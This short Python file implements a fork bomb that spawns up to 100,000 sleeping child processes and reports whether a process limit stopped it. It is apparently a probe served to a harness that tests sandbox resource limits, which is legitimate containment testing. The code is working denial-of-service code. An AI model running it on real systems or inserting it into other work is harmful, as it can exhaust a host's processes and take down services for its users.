"""A fork bomb that counts how far it gets."""
import os
import time

from agent import serve


def attack():
    for _ in range(100_000):
        try:
            child = os.fork()
        except OSError:
            return False
        if child == 0:
            time.sleep(1000)
            os._exit(0)
    return True


serve(attack)
